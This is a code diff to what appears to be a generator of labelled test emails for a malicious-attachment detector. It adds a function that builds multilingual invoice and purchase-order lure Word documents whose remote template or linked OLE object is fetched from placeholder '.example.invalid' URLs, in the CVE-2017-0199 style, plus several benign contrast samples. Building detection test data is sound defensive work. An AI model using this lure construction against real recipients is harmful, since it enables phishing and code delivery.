@@ -20,6 +20,7 @@ tests/samples/mkoffice.py when it is there; without it those cases are left out
 """
 
 import argparse
+import base64
 import datetime
 import email.policy
 import email.utils
@@ -352,6 +353,32 @@ def negasteal_documents(c):
                      rng.choice(SENDERS), RCPT, atts=atts))
 
 
+def remote_template(c):
+    """Word documents that fetch their active part when opened: a remote template,
+    a linked OLE object (the external-object trick, CVE-2017-0199 style)."""
+    rng = c.rng
+    for i, (lang, kind, how) in enumerate([("en", "invoice", "template"), ("de", "po", "template"),
+                                           ("es", "payment", "ole"), ("it", "quote", "template")]):
+        subjects, body, _, sig = LURES[lang]
+        n = c.digits(6)
+        url = "http://%s.example.invalid/%s" % (rng.choice(["office", "templates", "docs"]),
+                                                rng.choice(["t.dotm", "doc.rtf", "Normal%s.dotm" % n]))
+        if how == "template":
+            doc = F.docx([subjects[LURE_KIND[kind]].format(n=n)], template=url)
+        else:
+            doc = F.docx([subjects[LURE_KIND[kind]].format(n=n)], ole_link=url)
+        name = "%s_%s.docx" % (rng.choice(FILE_WORD[kind]), n)
+        atts = [(name, doc)]
+        trick = "docx with %s fetched from %s" % ("an external template" if how == "template"
+                                                   else "a linked OLE object", url)
+        if i == 3:
+            atts = [("%s_%s.zip" % (FILE_WORD[kind][0], n), F.zip_archive([(name, doc)]))]
+            trick += ", in a zip"
+        c.add("campaign", "negasteal-remote-template", trick + " (%s)" % lang,
+              c.mail(subjects[LURE_KIND[kind]].format(n=n), body.format(n=n) + "\n" + sig + "\n",
+                     rng.choice(SENDERS), RCPT, atts=atts))
+
+
 def office_campaign(c):
     """Macro documents: auto-open + fetch + execute, XLM macro sheets, add-ins."""
     if mkoffice is None:
@@ -629,6 +656,47 @@ def clean(c):
         c.add("clean", "reply", "reply with quoted text (%s)" % lang,
               c.mail("Re: " + subj, "Thanks, noted.\n\n" + quoted + "\n", rng.choice(SENDERS), team,
                      reply="<%d.prev@mail.example.com>" % i))
+    # a document based on a template on the author's disk (file:// target, External)
+    c.add("clean", "business-document", "docx whose attached template is a local Normal.dotm (file:///)",
+          c.mail("Draft contract", "Hi,\n\nthe draft contract is attached.\n\nAnna\n",
+                 "Anna Keller <anna.keller@example.com>", team,
+                 atts=[("Draft_contract.docx", F.docx(["Draft contract", "Section 1"],
+                        template="file:///C:\\Users\\akeller\\AppData\\Roaming\\Microsoft\\"
+                                 "Templates\\Normal.dotm"))]))
+    # a web application's export page: base64 CSV turned into a download in the browser
+    csv_b64 = base64.b64encode(("date;amount\n2020-06-01;120.00\n2020-06-02;80.50\n# %s\n"
+                                % MARK).encode()).decode()
+    export = ("<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Export</title></head><body>\n"
+              "<!-- %s -->\n<button id=\"b\">Download CSV</button>\n<script>\n"
+              "document.getElementById('b').onclick = function () {\n"
+              "  var bin = atob('%s'), bytes = new Uint8Array(bin.length);\n"
+              "  for (var i = 0; i < bin.length; i++) bytes[i] = bin.charCodeAt(i);\n"
+              "  var a = document.createElement('a');\n"
+              "  a.href = URL.createObjectURL(new Blob([bytes], {type: 'text/csv'}));\n"
+              "  a.download = 'transactions.csv'; a.click();\n};\n</script></body></html>\n"
+              % (MARK, csv_b64)).encode()
+    c.add("clean", "webdev-script", "saved web-app export page (atob, Blob, download of a CSV)",
+          c.mail("Transactions export", "The export page from the banking portal, saved.\n",
+                 "Finance <finance@example.com>", team, atts=[("transactions.html", export, "text/html")]))
+    # RTF with an embedded Excel chart (a legitimate OLE object) and a picture
+    sheet = F.xlsx([["Month", "Sales"], ["May", 120], ["June", 140]])
+    ole = (bytes.fromhex("0105000002000000") + (15).to_bytes(4, "little") + b"Excel.Sheet.12\0"
+           + b"\0" * 8 + len(sheet).to_bytes(4, "little") + sheet)
+    rtf = ("{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Calibri;}}\\f0 Sales chart, June.\\par\n"
+           "{\\object\\objemb{\\*\\objclass Excel.Sheet.12}\\objw4000\\objh2000{\\*\\objdata\n%s\n}"
+           "{\\result{\\pict\\pngblip\\picw32\\pich24\n%s\n}}}\\par %s\\par}\n"
+           % ("\n".join(ole.hex()[k:k + 128] for k in range(0, len(ole.hex()), 128)),
+              F.png(32, 24, 3).hex(), MARK)).encode()
+    c.add("clean", "rtf-document", "RTF with an embedded Excel sheet object and a PNG picture",
+          c.mail("Sales chart", "Chart attached as RTF.\n", "Controlling <controlling@example.com>", team,
+                 atts=[("sales_chart.rtf", rtf)]))
+    # a business card
+    vcf = ("BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Lucía Gómez\r\nORG:Example S.A.\r\n"
+           "EMAIL:lucia.gomez@es.example.com\r\nTEL:+34 600 000 000\r\nNOTE:%s\r\nEND:VCARD\r\n" % MARK)
+    c.add("clean", "plain-business", "mail with a vCard",
+          c.mail("Mis datos de contacto", "Hola,\n\nte envío mis datos de contacto.\n\nLucía\n",
+                 "Lucía Gómez <lucia.gomez@es.example.com>", team,
+                 atts=[("lucia_gomez.vcf", vcf.encode(), "text/vcard")]))
     # legitimate macros
     if mkoffice is not None:
         fmt = ("Sub FormatReport()\n  ' %s\n  With ActiveSheet.Range(\"A1:F1\")\n    .Font.Bold = True\n"
@@ -661,6 +729,7 @@ def build(seed):
     avaddon(c)
     negasteal_archives(c)
     negasteal_documents(c)
+    remote_template(c)
     office_campaign(c)
     clean(c)
     return c
